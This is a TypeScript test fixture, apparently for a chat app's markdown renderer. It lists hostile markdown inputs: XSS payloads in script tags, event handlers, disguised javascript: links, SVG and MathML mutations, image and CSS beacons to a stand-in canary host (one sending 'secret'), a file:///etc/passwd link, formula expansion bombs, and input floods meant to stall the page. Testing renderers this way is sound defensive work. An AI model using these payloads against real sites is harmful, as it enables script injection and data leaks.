/** Markdown that means harm: to be streamed through the page's renderer by its tests and by bench/render. */

/** Stands for the address of a server that nobody may ever ask. */
export const canaryPlace = "http://canary.invalid";

const canary = canaryPlace;
const script = "pwned()";

/** What tries to run a script, to send a request, or to look like something else. Short: to be cut at every offset. */
export const hostileMarkdown: Readonly<Record<string, string>> = {
  scripts: `<script>${script}</script>\n\n<SCRIPT SRC=${canary}/x.js></SCRIPT>\n\n<script/x>${script}</script\n\n<<script>script>${script}//<</script>`,
  handlers: `<img src=x onerror=${script}>\n\n<svg onload=${script}>\n\n<body onload=${script}>\n\n<input autofocus onfocus=${script}>\n\n<details open ontoggle=${script}>x</details>`,
  frames: `<iframe src="javascript:${script}"></iframe>\n<iframe srcdoc="<script>${script}</script>"></iframe>\n<object data="${canary}/o"></object><embed src="${canary}/e">`,
  styles: `<style>@import url(${canary}/s);*{background:url(${canary}/b)}</style>\n\n<link rel=stylesheet href=${canary}/l>\n\n<p style="background:url(${canary}/p)">x</p>`,
  heads: `<base href="${canary}/">\n<meta http-equiv=refresh content="0;url=${canary}/m">\n<link rel=prefetch href=${canary}/f>\n<form action=${canary}/a><button>go</button></form>`,
  svg: `<svg><script>${script}</script><image href="${canary}/i"/><use href="${canary}/u#x"/><animate onbegin=${script} attributeName=x dur=1s></svg>`,
  mathml: `<math><maction actiontype="statusline#${canary}" xlink:href="javascript:${script}">x</maction><mtext></form><form><mglyph><style></math><img src onerror=${script}></mtext></math>`,
  mutations: `<noscript><p title="</noscript><img src=x onerror=${script}>">\n\n<template><script>${script}</script></template>\n\n<!--><img src=x onerror=${script}>-->\n\n<![CDATA[<img src=x onerror=${script}>]]>\n\n<?xml version="1.0"?><x>`,
  links: `[a](javascript:${script}) [b](JaVaScRiPt:${script}) [c](  javascript:${script}) [d](<javascript:${script}>) [e](vbscript:${script}) [f](data:text/html,<script>${script}</script>) [g](file:///etc/passwd) [h](blob:${canary}/x)`,
  "links in disguise": `[a](java&#115;cript:${script}) [b](&#x6A;avascript:${script}) [c](javascript&colon;${script}) [d](java&Tab;script:${script}) [e](java&NewLine;script:${script}) [f](\u0001javascript:${script}) [g](java\u0000script:${script}) [h](%6Aavascript:${script}) [i](\\javascript:${script}) [j](j\u200bavascript:${script})`,
  "links that define": `[a]: javascript:${script}\n[b]: <data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+> "t"\n[__proto__]: ${canary}/p\n[constructor]: ${canary}/c\n\n[a] [b] [__proto__] [constructor] [toString]`,
  autolinks: `<javascript:${script}> <data:text/html,x> <vbscript:x> javascript:${script} <file:///x> <http://a"onmouseover="${script}> http://x.example/"onmouseover="${script}`,
  quotes: `[x](https://a.example/" onmouseover="${script}) [x](https://a.example "t\\" onmouseover=\\"${script}") [x](<https://a.example/' onclick='${script}>) ![x" onerror="${script}](https://a.example/i)`,
  images: `![x](${canary}/pixel.png?q=secret) ![x](//canary.invalid/p) ![x](data:image/svg+xml,<svg onload=${script}>) [![x](${canary}/a)](${canary}/b) ![x][r]\n\n[r]: ${canary}/r\n\n![](javascript:${script})`,
  formulas: `$\\href{javascript:${script}}{x}$ $\\url{${canary}}$ $\\includegraphics{${canary}/i.png}$ $\\htmlData{x=1}{y}$ $\\htmlId{app}{y}$ $\\htmlClass{x}{y}$ $\\htmlStyle{background:url(${canary}/s)}{y}$ $\\unicode{<img onerror=${script}>}$ $\\text{<script>${script}</script>}$`,
  "formulas that grow":
    "$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$ $\\newcommand{\\x}{\\x\\x}\\x$ $\\rule{99999em}{99999em}$ $\\kern{99999em}x$ $\\Huge\\Huge x$ $\\gdef\\frac{\\sqrt}$ $\\frac12$ $\\raisebox{9999em}{x}$",
  "footnotes and tasks": `[^"><img src=x onerror=${script}>]\n\n[^"><img]: <script>${script}</script>\n\n- [x] <img src=x onerror=${script}>\n- [ ] [a](javascript:${script})\n\nSee[^__proto__].\n\n[^__proto__]: x`,
  "languages of code": `\`\`\`"><script>${script}</script>\nx\n\`\`\`\n\n\`\`\`constructor\nx\n\`\`\`\n\n\`\`\`__proto__\n</code></pre><script>${script}</script>\n\`\`\`\n\n~~~html\n<script>${script}</script>\n~~~`,
  tables: `| <img src=x onerror=${script}> | [a](javascript:${script}) |\n|:-:|--:|\n| \`</td><script>${script}</script>\` | | | |\n||\n|\n| \\| |\n\n| a |\n|---|---|\n| b |\n\n|-|\n|:|\n`,
  brackets: "[[[[[[((((((]]]]]]))))))[](()[](<>)[[]()]([]())![![![](x)](y)](z)[a][b][c](((",
  "quotations and lists":
    ">>>>>- - - 1. 2) * + > - >\n>\t-\t1.\n- > - > - > x\n      y\n-\n  -\n   -\n    -\n>- ```\n> x\n",
  "characters that are not seen":
    "a\u200bb\u200cc\u200dd\u2060e\ufefff \u202eevil\u202c \u2066x\u2069 \u2067y \u061c\u200e\u200f [\u202egpj.exe](https://a.example/\u202e) `\u202e` \u00ad\u034f\u180e\u3164\uffa0",
  "halves of characters":
    "a\ud83d b\ude00 \ud800\ud800 \udc00\ud800 **\ud83d** [\ud83d](https://a.example/\ud83d) `\udc00` <https://a.example/\ud800> [\ud800]: x\n\n[\ud800]",
  "control characters":
    "a\u0000b\u0001c\u0007d\u0008e\u000bf\u000cg\u001bh\u007fi\u0085j\u2028k\u2029l\r\nm\rn\n\n**\u0000** [\u0000](https://a.example/\u0000)\n\n\u000c# x\n\n\u00a0- y",
  entities:
    "&lt;script&gt;pwned()&lt;/script&gt; &#0; &#xD800; &#x110000; &#99999999999; &bogus; &amp;lt; &#60;img src=x onerror=pwned()&#62; &NotEqualTilde; &",
  diagrams: `\`\`\`mermaid\nflowchart TD\n  click A call ${script}\n  A["<img src=${canary}/m onerror=${script}>"]\n\`\`\`\n`,
  "names of the page":
    '# app\n\n<div id="app">\n\n<form name=body><input name=attributes>\n\n[x](#app) <a name=location> [y](/api/conversations) [z](//canary.invalid/z) [w](\\\\canary.invalid\\w)',
};

const repeated =
  (unit: string) =>
  (characters: number): string =>
    unit.repeat(Math.ceil(characters / unit.length)).slice(0, characters);

const numbered =
  (unit: (index: number) => string) =>
  (characters: number): string => {
    let text = "";
    for (let index = 0; text.length < characters; index += 1) text += unit(index);
    return text.slice(0, characters);
  };

/** What tries to keep the page busy, in any length. */
export const markdownFloods: Readonly<Record<string, (characters: number) => string>> = {
  "opening brackets": repeated("["),
  "closing brackets": repeated("]"),
  "opened links": repeated("[a]("),
  "links in links": repeated("[a](b"),
  "opened images": repeated("!["),
  "images in links": repeated("[![a"),
  parentheses: (characters) => `[a](${"(".repeat(characters)}`.slice(0, characters),
  asterisks: repeated("*"),
  underscores: repeated("_"),
  tildes: repeated("a~~"),
  "opened emphasis": repeated("**a "),
  "closed emphasis": repeated("a** "),
  "mixed emphasis": repeated("*a **b _c __d "),
  "emphasis in words": repeated("a*b_"),
  backticks: repeated("`"),
  "backticks of all lengths": numbered((index) => `${"`".repeat((index % 300) + 1)} `),
  "opened code": repeated("`a"),
  angles: repeated("<"),
  "opened tags": repeated("<a "),
  "opened comments": repeated("<!--"),
  "opened addresses": repeated("<http://"),
  addresses: repeated("http://"),
  "addresses without end": repeated("http://a.b/?"),
  hosts: repeated("www.a."),
  mails: repeated("a@b."),
  "mail names": repeated("a."),
  entities: repeated("&#x"),
  "long entities": repeated("&amp"),
  backslashes: repeated("\\"),
  dollars: repeated("$"),
  "opened formulas": repeated("$a "),
  "opened display formulas": repeated("\\[ "),
  "opened inline formulas": repeated("\\("),
  footnotes: repeated("[^"),
  "defined footnotes": numbered((index) => `[^${index}]: x\n`),
  "used labels": numbered((index) => `[a${index}] `),
  definitions: numbered((index) => `[a${index}]: x\n`),
  "opened definitions": repeated("[a]: "),
  "definitions over lines": repeated("[a\n"),
  quotations: repeated(">"),
  "spaced quotations": repeated("> "),
  "quotations by line": numbered((index) => `${">".repeat((index % 80) + 1)} a\n`),
  "nested lists": numbered((index) => `${"  ".repeat(index % 90)}- a\n`),
  "lists in one line": repeated("- "),
  "numbers in one line": repeated("1. "),
  "empty items": repeated("-\n"),
  items: repeated("- a\n"),
  "items and quotations": repeated("- > "),
  hashes: repeated("#"),
  headings: repeated("# a\n"),
  underlines: repeated("a\n=\n"),
  rules: repeated("***\n"),
  fences: repeated("```\n"),
  "fences of all lengths": numbered((index) => `${"`".repeat((index % 90) + 3)}\n`),
  "one line of code": (characters) => `\`\`\`js\n${"a(".repeat(characters)}`.slice(0, characters),
  "lines of code": (characters) => `\`\`\`js\n${"\n".repeat(characters)}`.slice(0, characters),
  "code that is hard to colour": (characters) =>
    `\`\`\`ts\n${"const a: <T>(b: `${'".repeat(characters / 15)}`.slice(0, characters),
  bars: repeated("|"),
  "tables of one row": repeated("|a|\n|-|\n"),
  "broken tables": repeated("|a|b\n|-\n"),
  "a wide table": numbered((index) =>
    index === 0 ? `|${"a|".repeat(100)}\n|${"-|".repeat(100)}\n` : `|${"b|".repeat(100)}\n`,
  ),
  "a wide table of short rows": numbered((index) =>
    index === 0 ? `|${"a|".repeat(100)}\n|${"-|".repeat(100)}\n` : "|b|\n",
  ),
  "a table that is too wide": (characters) => {
    const columns = Math.floor(characters / 8);
    return `|${"a|".repeat(columns)}\n|${"-|".repeat(columns)}\n${"|b|\n".repeat(columns)}`;
  },
  "a table that never comes": (characters) => `|${"a|".repeat(characters)}`.slice(0, characters),
  "one word": repeated("a"),
  "one word of wide characters": repeated("字"),
  spaces: repeated(" "),
  tabs: repeated("\t"),
  "spaces and a letter": (characters) => `a${" ".repeat(characters - 2)}b`,
  "line breaks": repeated("\n"),
  "hard breaks": repeated("a\\\n"),
  "carriage returns": repeated("a\r"),
  "lines of one paragraph": repeated("a\n"),
  paragraphs: repeated("a\n\n"),
  "zero-width spaces": repeated("\u200b"),
  "zero-width joiners": repeated("👩\u200d"),
  "bidi overrides": repeated("\u202e"),
  "marks on one letter": (characters) => `e${"\u0301".repeat(characters - 1)}`,
  "half characters": repeated("\ud83d"),
  flags: repeated("🇦"),
  nulls: repeated("\0"),
  "formulas that are hard": repeated("$\\frac{\\sqrt{x^{y^{z}}}}{\\sum_{i=0}^n}$ "),
  "a formula without end": (characters) => `$$\n${"\\frac{a}{".repeat(characters / 9)}`.slice(0, characters),
};
